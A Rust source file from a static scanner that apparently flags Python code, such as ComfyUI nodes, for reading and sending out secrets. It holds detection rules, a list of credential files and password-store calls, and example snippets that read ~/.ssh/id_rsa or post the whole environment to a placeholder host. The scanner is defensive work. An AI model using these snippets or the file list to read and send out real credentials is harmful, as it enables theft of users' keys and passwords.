//! Keys, tokens, passwords and the environment.

use super::{CallRule, CallSite};
use crate::scan::finding::{Category, Severity};
use crate::scan::python::source::Hit;
use crate::scan::rules::{Example, Rule};

pub(in crate::scan) const RULES: &[Rule] = &[
    PY_SECRET_VARIABLE,
    PY_ENVIRONMENT,
    PY_SECRET_FILE,
    PY_KEYRING,
    PY_SECRET_SENT,
    PY_HOST_INFO_SENT,
];

pub(in crate::scan) const PY_SECRET_VARIABLE: Rule = Rule {
    id: "py-secret-variable",
    category: Category::CredRead,
    severity: Severity::Low,
    intent: None,
    reason: "A variable of the environment that holds a secret is read.",
    why: "The code then has the key, and may send it anywhere that the network is open to.",
    fix: "Give the sandbox the one key that the node needs.",
    examples: &[
        Example::found("import os\nos.environ['OPENAI_API_KEY']\n"),
        Example::found("import os\nos.getenv('HF_TOKEN')\n"),
        Example::twin("import os\nos.getenv('HOME')\n"),
    ],
};

pub(in crate::scan) const PY_ENVIRONMENT: Rule = Rule {
    id: "py-environment",
    category: Category::CredRead,
    severity: Severity::Medium,
    intent: None,
    reason: "The whole environment is read.",
    why: "All keys that ComfyUI was started with are in it.",
    fix: "Read the one variable that is needed.",
    examples: &[
        Example::found("import os, json\njson.dumps(dict(os.environ))\n"),
        Example::twin("import os\nenv = os.environ.copy()\n"),
        Example::twin("import os\nos.environ['X'] = '1'\n"),
    ],
};

pub(in crate::scan) const PY_SECRET_FILE: Rule = Rule {
    id: "py-secret-file",
    category: Category::CredRead,
    severity: Severity::High,
    intent: None,
    reason: "A file that holds keys or passwords is named.",
    why: "No node needs SSH keys, cloud credentials or the password file.",
    fix: "Do not run this node.",
    examples: &[
        Example::found("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n"),
        Example::found(
            "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()\n",
        ),
        Example::found("import glob, os\nglob.glob(os.path.expanduser('~/.ssh/*'))\n"),
        Example::twin("print('put your key into ~/.ssh/id_rsa')\n"),
    ],
};

pub(in crate::scan) const PY_KEYRING: Rule = Rule {
    id: "py-keyring",
    category: Category::CredRead,
    severity: Severity::High,
    intent: None,
    reason: "Passwords are read from the system's store or a browser's.",
    why: "They belong to the owner, not to a node.",
    fix: "Do not run this node.",
    examples: &[
        Example::found("import keyring\nkeyring.get_password('a', 'b')\n"),
        Example::found("import browser_cookie3\nbrowser_cookie3.chrome()\n"),
        Example::twin("import keyring\nkeyring.set_password('a', 'b', 'c')\n"),
    ],
};

pub(in crate::scan) const PY_SECRET_SENT: Rule = Rule {
    id: "py-secret-sent",
    category: Category::CredRead,
    severity: Severity::Critical,
    intent: None,
    reason: "Credentials leave the machine.",
    why: "No honest node sends the environment or key files anywhere.",
    fix: "Do not run this node, and change the keys if it ran.",
    examples: &[
        Example::found("import os, requests\nrequests.post('https://x', json=dict(os.environ))\n"),
        Example::twin("import os, requests\nrequests.post('https://x', json={'a': 1})\n"),
        Example::twin(
            "import os, requests\nrequests.get('https://x', headers={'Authorization': os.environ['API_KEY']})\n",
        ),
    ],
};

pub(in crate::scan) const PY_HOST_INFO_SENT: Rule = Rule {
    id: "py-host-info-sent",
    category: Category::CredRead,
    severity: Severity::High,
    intent: None,
    reason: "Facts about the machine or its user leave it.",
    why: "Names of the host and its user are what an attacker collects first.",
    fix: "Do not run this node.",
    examples: &[
        Example::found(
            "import socket, requests\nrequests.post('https://x', data=socket.gethostname())\n",
        ),
        Example::twin("import socket\nprint(socket.gethostname())\n"),
    ],
};

pub(in crate::scan::python) const CALLS: &[CallRule] = &[
    CallRule {
        names: &[
            "os.getenv",
            "os.environ.get",
            "os.environ.pop",
            "os.environ.setdefault",
            "os.environb.get",
        ],
        judge: |call| call.text(0, "key").and_then(|name| secret_variable(&name)),
    },
    CallRule {
        names: &[
            "builtins.dict",
            "json.dumps",
            "builtins.str",
            "builtins.repr",
            "os.environ.items",
            "pickle.dumps",
            "pprint.pformat",
            "os.environ.values",
            "json.dump",
            "builtins.list",
        ],
        judge: judge_environment,
    },
    CallRule {
        names: &[
            "keyring.get_password",
            "keyring.get_credential",
            "win32crypt.CryptUnprotectData",
            "browser_cookie3.load",
            "browser_cookie3.chrome",
            "browser_cookie3.firefox",
            "browser_cookie3.edge",
            "browserhistory.get_browserhistory",
            "secretstorage.dbus_init",
            "ctypes.windll.crypt32.CryptUnprotectData",
            "win32cred.CredEnumerate",
            "browser_cookie3.opera",
            "browser_cookie3.brave",
            "rookiepy.chrome",
            "rookiepy.load",
        ],
        judge: |call| {
            Some(Hit::of(
                &PY_KEYRING,
                format!("{}() reads stored passwords.", call.shown()),
            ))
        },
    },
];

fn judge_environment(call: &CallSite<'_>) -> Option<Hit> {
    let whole =
        call.name.starts_with("os.environ.") || call.all().any(|v| v.name() == Some("os.environ"));
    let quiet = matches!(
        call.name,
        "builtins.dict" | "builtins.list" | "os.environ.items" | "os.environ.values"
    );
    whole.then(|| {
        let hit = Hit::of(&PY_ENVIRONMENT, "The whole environment is read.");
        if quiet { hit.at(Severity::Low) } else { hit }
    })
}

/// Whether a variable of that name holds a secret.
pub(in crate::scan::python) fn is_secret_name(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let words = [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "ACCESS_KEY",
        "CREDENTIAL",
        "PRIVATE_KEY",
        "AUTH_KEY",
    ];
    words.iter().any(|w| upper.contains(w)) && !upper.contains("TOKENIZER")
}

pub(in crate::scan::python) fn secret_variable(name: &str) -> Option<Hit> {
    is_secret_name(name).then(|| {
        Hit::of(
            &PY_SECRET_VARIABLE,
            format!("The variable {name} is read from the environment."),
        )
    })
}

/// Ends and parts of paths of files that hold keys.
const SECRET_FILES: &[&str] = &[
    ".ssh/id_",
    ".ssh/authorized_keys",
    ".ssh/known_hosts",
    ".ssh/config",
    ".aws/credentials",
    ".aws/config",
    ".netrc",
    "_netrc",
    ".git-credentials",
    ".docker/config.json",
    ".kube/config",
    ".pypirc",
    ".npmrc",
    "/etc/shadow",
    "/etc/passwd",
    "/etc/sudoers",
    ".config/gcloud",
    "application_default_credentials.json",
    ".gnupg/",
    ".azure/",
    "keychain-db",
    "login.keychain",
    ".vault-token",
    "id_ed25519",
    "id_rsa",
    "sam.hive",
    ".bash_history",
    ".zsh_history",
    ".config/gh/hosts",
    ".cloudflared",
    "/proc/self/environ",
    ".cache/huggingface/token",
    ".huggingface/token",
    ".config/rclone",
];

/// Whether a path names a file that holds keys.
pub(in crate::scan::python) fn secret_file(path: &str) -> Option<&'static str> {
    let plain = path.replace('\\', "/");
    let folder = plain.contains("/.ssh/")
        || plain.ends_with("/.ssh")
        || plain.ends_with("/.aws")
        || plain.ends_with("/.gnupg");
    let known = SECRET_FILES.iter().copied().find(|s| plain.contains(s));
    known.or(folder.then_some("the folder of keys"))
}
